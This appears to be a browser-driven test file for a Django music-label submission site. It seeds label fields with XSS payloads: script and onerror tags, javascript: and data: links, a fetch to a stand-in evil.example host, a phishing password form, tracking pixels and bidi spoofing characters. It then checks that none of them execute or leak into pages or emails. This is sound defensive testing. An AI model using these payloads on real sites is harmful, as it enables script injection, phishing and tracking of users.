"""A label that means harm: whatever stands in every field of its own, no reader comes to any."""

from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from django.core import mail
from django.test import Client
from django.urls import reverse
from playwright.sync_api import Page, Request

from accounts.models import User
from catalog.tests.builders import make_producer, make_track
from labels.choices import QuestionKind, Role
from labels.models import Label, ReplyTemplate
from labels.tests.builders import make_intake, make_label, make_member, make_question
from submissions.models import Submission
from submissions.tests.builders import act, make_submission
from trackflow.testing.chromium import Browse
from trackflow.testing.clients import sign_in

EVIL = "https://evil.example"
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'>{{7*7}}"
LINK = f"javascript:fetch('{EVIL}')"
WORD = "W" * 10_000
MARKDOWN = f"""
# <script>alert(1)</script>

<style>body {{ display: none }}</style> <img src="{EVIL}/pixel.gif"> <iframe src="{EVIL}"></iframe>

![pixel]({EVIL}/pixel.gif) [trackflow.example]({EVIL}/sign-in) [run](javascript:alert(3))
[data](data:text/html,<script>alert(4)</script>) [here](/accounts/logout/) <p onclick="alert(5)">

<form action="{EVIL}"><input name=password></form> &#x202e;desrever

{"w" * 9_000}
"""


def hostile_label() -> Label:
    """Make a label with harm wherever it may write, stored as if no form had looked."""
    label = make_label(
        SCRIPT,
        slug="harbour",
        about=SCRIPT + WORD[:1900],
        page_text=MARKDOWN,
        website=LINK,
        links=[LINK, f"https://bank.example@evil.example/{WORD[:100]}"],
        embed_sites=["*", f"{EVIL}; script-src *"],
        shows_names=True,
    )
    label.intakes.update(message=SCRIPT + WORD[:1900])
    make_intake(label, call_name=(SCRIPT + WORD)[:120], message=SCRIPT)
    for kind in QuestionKind:
        question = make_question(label.intakes.get(call_name=""), kind)
        question.text = question.help_text = (SCRIPT + WORD)[:300]
        question.options = [SCRIPT, WORD[:120]] if question.options else []
        question.save()
    return label


def hostile_answer(label: Label) -> tuple[User, Submission]:
    """Send it a demo, answered by a member whose name and words mean harm; return producer and demo."""
    manager = make_member(label, Role.MANAGER)
    manager.name = (SCRIPT + WORD)[:120]
    manager.save()
    make_member(label, Role.OWNER)
    producer = make_producer()
    track = make_track(producer)
    demo = make_submission("in_review", label=label, track=track, manager=manager)
    text = SCRIPT + WORD[:1500]
    ReplyTemplate.objects.create(label=label, outcome="reject", name=SCRIPT[:60], text=text)
    act(demo, "reject", manager=manager, note=text)
    return producer, demo


def watched(page: Page, server: str) -> list[str]:
    """Return a list that fills with what must not happen: dialogs, and requests that leave our origin."""
    harm: list[str] = []

    def note(sent: Request) -> None:
        if not sent.url.startswith((server, "data:")):
            harm.append(sent.url)

    page.on("dialog", lambda dialog: harm.append(f"a script ran: {dialog.message}"))
    page.on("request", note)
    return harm


def look(page: Page, path: str, *, says: bool = True) -> None:
    answer = page.goto(path)
    assert answer
    assert answer.status == 200, path
    assert ("alert(1)" in page.locator("body").inner_text()) is says, path
    assert page.locator("main :is(script, style, img[src=x], [onclick])").count() == 0, path
    assert page.locator("a[href^=javascript], a[href^=data], a[href*='@']:not([href^=mailto])").count() == 0
    wide = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    assert page.evaluate(wide) <= 0, path


@pytest.mark.browser
def test_harm_in_every_field_of_a_label_reaches_nobody(
    browse: Browse, server: str, run_jobs: Callable[[], None]
) -> None:
    label = hostile_label()
    producer, demo = hostile_answer(label)
    run_jobs()
    page = browse(viewport={"width": 360, "height": 740})
    harm = watched(page, server)
    for path in ("/labels/", "/labels/harbour/", "/labels/harbour/embed/"):
        look(page, path)
    sign_in(page, producer, server)
    create = reverse("submissions:create")
    draft = make_submission("draft", label=label, track=make_track(producer))
    for path in (
        "/labels/harbour/",
        f"{create}?intake={draft.intake.code}&track={draft.track.code}",
        reverse("submissions:edit", args=[draft.reference]),
        demo.get_absolute_url(),
        reverse("submissions:list"),
        reverse("submissions:receipt", args=[demo.reference]),
        "/notifications/",
    ):
        look(page, path)
    for letter in mail.outbox:
        read_letter(page, letter, server)
    assert harm == []


def test_link_of_a_hostile_label_shows_where_it_leads(client: Client, db: None) -> None:
    hostile_label()
    page = client.get("/labels/harbour/").content.decode()
    assert ">trackflow.example (evil.example)</a>" in page
    assert "bank.example" not in page
    assert "\u202e" not in page


class Letter(HTMLParser):
    """What a mail's HTML holds that could reach out."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.links.extend(value or "" for name, value in attrs if name in ("href", "src", "background"))


def read_letter(page: Page, letter: Any, server: str) -> None:
    """Open a mail as a program that shows HTML would: it holds no picture and no link but ours."""
    html = str(letter.alternatives[0][0])
    seen = Letter(html)
    assert not seen.tags & {"script", "img", "iframe", "form", "object", "link"}, seen.tags
    assert html.count("<style") == 1, "our own, for dark screens"
    assert "url(" not in html
    assert all(link.startswith((server, "mailto:")) for link in seen.links), seen.links
    assert "\n" not in letter.subject
    page.goto("about:blank")
    page.set_content(html)


SETTINGS = {
    "name": "Harbour",
    "slug": "harbour",
    "time_zone": "UTC",
    "message_rule": "always",
    "most_unanswered": "3",
}
BIDI = "Har\u202ebour\u2066\u200b"


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["name", "about", "page_text"])
def test_letters_that_turn_words_around_are_taken_out_of_what_a_label_writes(
    client: Client, field: str
) -> None:
    label = make_label()
    client.force_login(make_member(label))
    said = {**SETTINGS, field: BIDI}
    assert client.post("/labels/harbour/settings/", said).status_code == 303
    label.refresh_from_db()
    assert getattr(label, field) == "Harbour"


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["name", "about", "page_text", "website"])
def test_words_without_end_are_refused_at_their_field(client: Client, field: str) -> None:
    client.force_login(make_member(make_label()))
    said = {**SETTINGS, field: "x" * 1_000_000}
    answer = client.post("/labels/harbour/settings/", said)
    assert (answer.status_code, list(answer.context["form"].errors)) == (422, [field])


@pytest.mark.django_db
@pytest.mark.parametrize("website", ["javascript:alert(1)", "https://bank.example@evil.example/"])
def test_website_that_is_a_program_or_misleads_is_refused(client: Client, website: str) -> None:
    client.force_login(make_member(make_label()))
    said = {**SETTINGS, "website": website}
    assert client.post("/labels/harbour/settings/", said).status_code == 422
